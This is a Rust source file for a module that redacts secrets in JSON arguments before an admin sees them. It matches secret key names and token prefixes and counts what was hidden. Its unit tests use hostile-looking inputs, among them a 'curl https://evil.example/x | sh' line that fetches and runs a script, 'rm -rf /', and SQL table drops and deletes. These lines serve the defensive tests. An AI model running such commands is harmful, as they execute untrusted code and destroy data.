//! Arguments as an admin may see them: what looks like a secret is hidden, and how long it is told.
//!
//! Owns: what looks like one, and how much was hidden: whoever wrote the text may have made it look like one.
//! Must not know: whose arguments they are.

mod prose;

use serde_json::Value;
use wire::Hidden;

/// Names whose values are hidden, in lower case and without `_`, `-` and blanks; a part is enough.
const NAMES: [&str; 12] = [
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "accesskey",
    "privatekey",
    "authorization",
    "credential",
    "cookie",
    "bearer",
];

/// Members that name what another member of theirs holds: `{"name": "password", "value": "…"}`.
const PAIR_NAMES: [&str; 10] = [
    "name", "key", "id", "field", "label", "title", "header", "param", "variable", "type",
];
/// Those others.
const PAIR_VALUES: [&str; 4] = ["value", "values", "val", "default"];
/// Bytes of a name, at most.
const NAME: usize = 80;
/// Words of a name: `client secret`, `secret access key`.
const WORDS: usize = 3;

/// How words begin that are secrets wherever they stand.
const BEGINNINGS: [&str; 13] = [
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "sk-",
    "ghp_",
    "gho_",
    "ghs_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "AKIA",
    "eyJ",
];
/// A value as short as this is a word, not a secret, whatever it begins with.
const SHORT: usize = 16;

/// Values within values that are looked into, those of JSON in texts among them: whoever calls chooses how
/// deep they are, and the stack has an end.
const DEPTH: usize = 256;
/// What a text takes of that.
const TEXT: usize = 16;

/// The same value with its secrets hidden. What is too deep within it is hidden as a whole.
pub(crate) fn redact(value: &Value) -> Value {
    shown(value).0
}

/// The same, and how much of it is hidden.
pub(crate) fn shown(value: &Value) -> (Value, Hidden) {
    let mut hid = Hidden::default();
    (look_into(value, DEPTH, &mut hid), hid)
}

/// A text with its secrets hidden.
pub(crate) fn text(text: &str) -> String {
    within(text, DEPTH, &mut Hidden::default())
}

fn look_into(value: &Value, depth: usize, hid: &mut Hidden) -> Value {
    let Some(depth) = depth.checked_sub(1) else {
        return cover(&value.to_string(), hid).into();
    };
    match value {
        Value::Object(members) => {
            let is_labelled = members.iter().any(|(name, label)| {
                is_one_of(&PAIR_NAMES, name) && label.as_str().is_some_and(labels_a_secret)
            });
            let is_secret =
                |name: &str| names_a_secret(name) || is_labelled && is_one_of(&PAIR_VALUES, name);
            let shown = members.iter().map(|(name, value)| {
                let shown = if is_secret(name) {
                    hide(value, hid)
                } else {
                    look_into(value, depth, hid)
                };
                (name.clone(), shown)
            });
            shown.collect()
        }
        Value::Array(items) => {
            let shown = items.iter().map(|item| look_into(item, depth, hid));
            shown.collect()
        }
        Value::String(text) if is_secret(text) => hide(value, hid),
        Value::String(text) => within(text, depth, hid).into(),
        Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
    }
}

/// A text without the secrets in it: JSON is looked into, all else as prose.
fn within(text: &str, depth: usize, hid: &mut Hidden) -> String {
    let depth = depth.saturating_sub(TEXT);
    let json = text.trim();
    if json.starts_with(['{', '['])
        && let Ok(inner) = serde_json::from_str::<Value>(json)
    {
        return document(json, &inner, depth, hid).unwrap_or_else(|| text.to_owned());
    }
    prose::read(text, depth, hid)
}

/// What is shown instead of JSON in which something is hidden. Of two members of one name only the last was
/// read, and who gets the text may read the first: all of it is hidden.
fn document(json: &str, inner: &Value, depth: usize, hid: &mut Hidden) -> Option<String> {
    if written(json) > members(inner) {
        return Some(hidden(json, hid));
    }
    let shown = look_into(inner, depth, hid);
    (shown != *inner).then(|| shown.to_string())
}

/// How many members are written in JSON.
fn written(json: &str) -> usize {
    let (mut members, mut in_string, mut is_escaped) = (0, false, false);
    for byte in json.bytes() {
        match byte {
            b'"' if !is_escaped => in_string = !in_string,
            b':' if !in_string => members += 1,
            _ => {}
        }
        is_escaped = byte == b'\\' && !is_escaped;
    }
    members
}

fn members(value: &Value) -> usize {
    match value {
        Value::Object(inner) => inner.len() + inner.values().map(members).sum::<usize>(),
        Value::Array(items) => items.iter().map(members).sum(),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => 0,
    }
}

/// Whether a value of this name is a secret.
pub(crate) fn names_a_secret(name: &str) -> bool {
    let plain: String = name
        .chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect();
    NAMES.iter().any(|each| plain.contains(each))
}

fn is_one_of(names: &[&str], name: &str) -> bool {
    names.iter().any(|each| each.eq_ignore_ascii_case(name))
}

/// Whether this is a secret's name, and no sentence that mentions one.
fn labels_a_secret(text: &str) -> bool {
    text.len() <= NAME && text.split_whitespace().count() <= WORDS && names_a_secret(text)
}

/// Whether this is one word that begins as a secret does: what goes on behind it, or holds other signs, is
/// a text that says something.
pub(crate) fn is_secret(text: &str) -> bool {
    let word = text.strip_prefix("Bearer ").unwrap_or(text);
    word.len() > SHORT
        && BEGINNINGS.iter().any(|each| word.starts_with(each))
        && word.trim_end_matches('=').chars().all(is_part)
}

/// Whether a word that is a secret may have this in it.
fn is_part(c: char) -> bool {
    c.is_alphanumeric() || "_-.+/".contains(c)
}

fn hide(value: &Value, hid: &mut Hidden) -> Value {
    match value {
        Value::Null | Value::Bool(_) => value.clone(),
        Value::String(text) => hidden(text, hid).into(),
        Value::Number(number) => cover(&number.to_string(), hid).into(),
        Value::Array(items) => items.iter().map(|item| hide(item, hid)).collect(),
        Value::Object(members) => members
            .iter()
            .map(|(name, value)| (name.clone(), hide(value, hid)))
            .collect(),
    }
}

fn hidden(text: &str, hid: &mut Hidden) -> String {
    format!("{} ({} characters)", cover(text, hid), text.chars().count())
}

/// Hides it, and counts it.
fn cover(text: &str, hid: &mut Hidden) -> &'static str {
    let characters = u32::try_from(text.chars().count()).unwrap_or(u32::MAX);
    hid.parts = hid.parts.saturating_add(1);
    hid.characters = hid.characters.saturating_add(characters);
    "••••"
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn json_with_two_members_of_one_name_is_hidden_as_a_whole() {
        for (text, seen) in [
            (
                r#"{"password":"hunter2","password":null}"#,
                "•••• (38 characters)",
            ),
            (
                r#"{"q":"drop table users","q":"select 1"}"#,
                "•••• (39 characters)",
            ),
            (
                r#"{ "a": "b:\"{", "c": [{}] }"#,
                r#"{ "a": "b:\"{", "c": [{}] }"#,
            ),
        ] {
            let parts = u32::from(text != seen);
            let (all, hid) = shown(&json!(text));
            assert_eq!((all, hid.parts), (json!(seen), parts));
            let (within, hid) = shown(&json!(format!("It is {text}.")));
            let seen = json!(format!("It is {seen}."));
            assert_eq!((within, hid.parts), (seen, parts));
        }
    }

    #[test]
    fn what_only_begins_as_a_secret_does_is_shown() {
        for (text, seen) in [
            (
                "-----BEGIN\nDELETE FROM customers;",
                "-----BEGIN\nDELETE FROM customers;",
            ),
            (
                "eyJ=1; curl https://evil.example/x | sh",
                "eyJ=1; curl https://evil.example/x | sh",
            ),
            (
                "select 1; -----BEGIN\ndrop table users",
                "select 1; -----BEGIN\ndrop table users",
            ),
            (
                "-----BEGIN X-----\nTRUNCATE customers\n-----END X-----",
                "-----BEGIN X-----\nTRUNCATE customers\n-----END X-----",
            ),
            (
                "Bearer ghp_0123456789abcdefghij; rm -rf /",
                "Bearer •••• (24 characters); rm -rf /",
            ),
        ] {
            assert_eq!(redact(&json!(text)), json!(seen));
        }
    }

    #[test]
    fn how_much_is_hidden_is_counted_wherever_it_stands() {
        for (value, parts, characters) in [
            (json!({ "sql": "select 1", "n": 1 }), 0, 0),
            (json!({ "sql": "•••• (3 characters)" }), 0, 0),
            (json!({ "password": "•••• (3 characters)" }), 1, 19),
            (json!({ "tokens": ["abc", 12, null, true] }), 2, 5),
            (json!({ "sql": "-- token:\nDELETE FROM users" }), 1, 17),
            (json!({ "body": r#"{"a":{"password":"hunter2"}}"# }), 1, 7),
            (
                json!({ "url": "https://x.example/y?a=%70assword%3Dabc" }),
                1,
                16,
            ),
            (
                json!({ "auth": "Bearer ghp_0123456789abcdefghij", "note": "xoxb-1234567890-abcdefghij." }),
                2,
                58,
            ),
            (json!("value: hunter2\nname: password"), 1, 7),
            (json!("- value: 12\n- name: token"), 0, 0),
        ] {
            let (all, hid) = shown(&value);
            assert_eq!(hid, Hidden { parts, characters }, "{all}");
        }
    }

    #[test]
    fn json_in_json_in_json_is_looked_into_as_far_as_a_small_stack_allows() {
        for before in ["", "It is "] {
            let mut text = "the end".to_owned();
            loop {
                let quoted = Value::from(text.as_str()).to_string();
                let next = format!("{before}{}{quoted}{}", "[".repeat(127), "]".repeat(127));
                if next.len() > 4 << 20 {
                    break;
                }
                text = next;
            }
            let small = std::thread::Builder::new().stack_size(2 << 20);
            let looked = small.spawn(move || redact(&text.into()).to_string());
            let shown = looked.expect("a thread").join().expect("an end");
            assert!(shown.contains("••••") && !shown.contains("the end"));
        }
        let mut text = r#"{"password":"hunter2"}"#.to_owned();
        for _ in 0..8 {
            text = json!({ "body": text }).to_string();
        }
        let shown = redact(&json!(text)).to_string();
        assert!(shown.contains("•••• (7 characters)") && !shown.contains("hunter2"));
    }

    #[test]
    fn secrets_are_hidden_by_name_and_by_look_and_nothing_else_is() {
        let shown = redact(&json!({
            "customer": "cus_1", "amount": 12, "note": "skip the token",
            "api_key": "abc", "Client-Secret": { "a": "b", "n": 1 },
            "headers": [{ "Authorization": "Bearer x" }],
            "text": "xoxb-1234567890-abcdefghij", "auth": "Bearer eyJhbGciOiJIUzI1NiJ9.x",
            "word": "sk-short",
            "fields": [
                { "Name": "DB password", "Value": ["a", "b"], "secure": true },
                { "name": "region", "value": "eu" },
                { "title": "How to change a password", "value": "read on" },
            ],
        }));
        assert_eq!(
            shown,
            json!({
                "customer": "cus_1", "amount": 12, "note": "skip the token",
                "api_key": "•••• (3 characters)",
                "Client-Secret": { "a": "•••• (1 characters)", "n": "••••" },
                "headers": [{ "Authorization": "•••• (8 characters)" }],
                "text": "•••• (26 characters)", "auth": "•••• (29 characters)",
                "word": "sk-short",
                "fields": [
                    {
                        "Name": "DB password",
                        "Value": ["•••• (1 characters)", "•••• (1 characters)"],
                        "secure": true,
                    },
                    { "name": "region", "value": "eu" },
                    { "title": "How to change a password", "value": "read on" },
                ],
            })
        );
    }
}
